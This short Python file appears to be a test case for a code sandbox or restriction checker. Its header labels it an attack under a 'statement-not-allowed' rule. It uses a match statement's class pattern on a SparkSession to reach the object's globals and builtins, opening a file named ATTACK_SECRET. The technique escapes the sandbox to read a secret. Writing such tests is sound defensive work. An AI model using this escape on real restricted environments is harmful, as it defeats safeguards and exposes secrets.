# attack: python
# rule: statement-not-allowed
# goal: Reach an attribute through a class pattern. It is reached when REACHED is printed.
from pyspark.sql import SparkSession, functions as F

spark = SparkSession.builder.appName("attack").getOrCreate()

match spark:
    case object(__class__=found):
        reached = found.__init__.__globals__
        if reached['__builtins__']['open']('ATTACK_SECRET').read():
            print('REACHED')

result = spark.range(1)
result.write.mode("overwrite").parquet("ATTACK_OUTPUT")
